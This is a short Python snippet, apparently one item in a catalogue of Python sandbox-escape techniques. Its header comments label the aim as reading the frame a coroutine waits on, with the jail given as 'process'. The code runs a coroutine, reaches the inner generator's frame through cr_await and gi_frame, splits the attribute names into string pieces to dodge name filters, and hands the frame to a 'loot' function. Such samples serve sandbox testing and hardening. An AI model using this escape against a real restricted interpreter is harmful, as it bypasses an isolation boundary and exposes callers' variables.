# aim: read the frame of what a coroutine waits for
# mechanism: cr_await by getattr
# language: builtins
# reason: a frame leads to the variables of every caller
# jail: process
# plain: loot

import types


@types.coroutine
def inner():
    yield


async def outer():
    await inner()


running = outer()
running.send(None)
loot(getattr(getattr(running, "cr_aw" + "ait"), "gi_" + "frame"))
